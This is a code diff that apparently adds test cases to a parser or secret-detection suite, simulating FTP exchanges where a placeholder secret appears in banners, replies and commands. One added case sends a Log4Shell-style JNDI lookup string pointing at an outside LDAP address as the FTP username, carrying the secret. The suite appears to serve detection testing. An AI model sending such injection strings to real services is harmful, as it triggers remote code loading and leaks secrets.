@@ -47,6 +47,8 @@ def ftp(p):
     line("answer repeats the password", S(b"530 Login incorrect: PASS {S}\r\n"))
     line("banner with a password", S(b"220 use guest/{S} to log in\r\n"))
     line("answer of several lines", S(b"331-hello\r\n331-password is {S}\r\n331 go on\r\n"))
+    line("injection as user", C(b"USER ${jndi:ldap://192.0.2.1/{S}}\r\n"), S(b"331 which password?\r\n"),
+         C(b"PASS x\r\n"), S(b"530 no\r\n"))
     line("user and password as user", b"USER bob:{S}@host\r\n")
     line("password as user name after a failure", C(b"PASS x\r\n"), S(b"530 no\r\n"), C(b"{S}\r\n"))
     line("control characters before it", b"\xff\xf4\xff\xf2PASS {S}\r\n")
